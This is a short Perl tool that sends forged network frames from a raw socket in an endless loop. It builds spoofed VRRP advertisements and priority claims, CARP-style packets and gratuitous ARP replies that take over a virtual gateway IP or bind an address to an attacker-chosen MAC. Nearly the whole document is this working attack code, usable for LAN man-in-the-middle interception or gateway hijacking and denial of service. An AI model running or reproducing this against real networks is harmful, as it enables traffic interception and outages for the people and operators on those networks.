# Sends forged frames: forger.pl KIND PAUSE INTERFACE FROM-MAC TO-MAC SOURCE DESTINATION VRID PRIORITY VIP
use strict;
use Socket;
use Time::HiRes qw(time sleep);

my ($kind, $pause, $interface, $from, $to, $source, $destination, $vrid, $priority, $vip) = @ARGV;
my ($AF_PACKET, $SOCK_RAW, $SIOCGIFINDEX) = (17, 3, 0x8933);
socket(my $socket, $AF_PACKET, $SOCK_RAW, 0) or die "socket: $!";
my $request = pack('a16 x16', $interface);
ioctl($socket, $SIOCGIFINDEX, $request) or die "index of $interface: $!";
my $index = unpack('x16 i', $request);

sub mac { pack('H12', $_[0] =~ s/://gr) }

sub checksum {
    my $sum = 0;
    $sum += $_ for unpack('n*', length($_[0]) % 2 ? $_[0] . "\0" : $_[0]);
    $sum = ($sum >> 16) + ($sum & 0xffff) while $sum >> 16;
    return ~$sum & 0xffff;
}

sub checked { my ($bytes, $at, $over) = @_; substr($bytes, $at, 2) = pack('n', checksum($over . $bytes)); return $bytes }

sub frame {
    my ($payload, $ttl) = @_;
    my $header = pack('C C n n n C C n a4 a4', 0x45, 0xc0, 20 + length $payload, int rand 65536, 0, $ttl, 112, 0,
        inet_aton($source), inet_aton($destination));
    return mac($to) . mac($from) . pack('n', 0x0800) . checked($header, 10, '') . $payload;
}

sub vrrp {
    my ($type) = @_;
    my $body = pack('C C C C n n a4', 0x30 | $type, $vrid, $priority, 1, 10, 0, inet_aton($vip));
    my $pseudo = pack('a4 a4 C C n', inet_aton($source), inet_aton($destination), 0, 112, length $body);
    return frame(checked($body, 6, $pseudo), 255);
}

my %frames = (
    advert => sub { vrrp(1) },
    order => sub { vrrp(2) },
    carp => sub { frame(checked(pack('C C C C C C n N7', 0x21, $vrid, 0, 7, 0, 1, 0, map { int rand 4294967296 } 1 .. 7), 6, ''), 255) },
    claim => sub {
        mac($to) . mac($from) . pack('n n n C C n', 0x0806, 1, 0x0800, 6, 4, 2) . mac($from) . inet_aton($source)
            . mac($to) . inet_aton($source);
    },
);
my $frame = $frames{$kind}->();
my $address = pack('S n i S C C a8', $AF_PACKET, 0, $index, 0, 0, 6, mac($to));
my $began = time;
for (my $sent = 0; ; $sent++) {
    send($socket, $frame, 0, $address);
    my $ahead = $began + $sent * $pause - time;
    sleep($ahead) if $ahead > 0.002;
}
